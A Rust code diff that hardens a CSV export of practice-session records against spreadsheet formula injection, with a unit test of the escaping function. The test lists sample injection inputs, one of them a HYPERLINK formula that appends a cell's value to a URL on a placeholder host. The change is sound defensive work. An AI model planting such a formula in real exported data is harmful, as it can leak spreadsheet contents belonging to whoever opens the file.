@@ -13,7 +13,7 @@ type CsvColumn = (&'static str, fn(&StoredRep) -> Option<String>);
 /// The columns before the events.
 const ORIGIN: [CsvColumn; 8] = [
     ("session", |stored| Some(stored.session.to_string())),
-    ("hitter", |stored| stored.hitter_name.clone()),
+    ("hitter", |stored| free_text(stored.hitter_name.as_deref()?)),
     ("logged_at", |stored| Some(stamp_text(stored.logged_at))),
     ("rep", |stored| Some(stored.judged.number.to_string())),
     ("kind", |stored| text(stored.judged.rep.kind.name())),
@@ -65,7 +65,7 @@ const CUE_TO_CORRECTIONS: [CsvColumn; 15] = [
             .and_then(text)
     }),
     ("marked", |stored| Some(stored.marked.to_string())),
-    ("struck", |stored| stored.struck.clone()),
+    ("struck", |stored| free_text(stored.struck.as_deref()?)),
     ("called", |stored| {
         stored.label_override.map(RepKind::name).and_then(text)
     }),
@@ -148,6 +148,16 @@ fn text(word: &str) -> Option<String> {
     Some(word.to_owned())
 }
 
+/// What somebody typed. A spreadsheet would run what begins as a formula does; the apostrophe tells it that this is text.
+fn free_text(typed: &str) -> Option<String> {
+    let runs = typed.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    Some(if runs {
+        format!("'{typed}")
+    } else {
+        typed.to_owned()
+    })
+}
+
 fn number(value: f64, decimals: i32) -> Option<String> {
     Some(rounded(value, decimals).to_string())
 }
@@ -158,4 +168,24 @@ fn secs(at: CaptureTime) -> Option<String> {
 
 fn length(cm: Option<f64>) -> Option<String> {
     number(cm.filter(|cm| cm.is_finite())?, 1)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_is_no_formula() {
+        for typed in [
+            "=1+1",
+            "+1",
+            "-1",
+            "@SUM(A1)",
+            "\t=1",
+            "=HYPERLINK(\"http://x/?\"&A2)",
+        ] {
+            assert_eq!(free_text(typed), Some(format!("'{typed}")));
+        }
+        assert_eq!(free_text("Ana-Lucía = 7"), Some("Ana-Lucía = 7".to_owned()));
+    }
 }
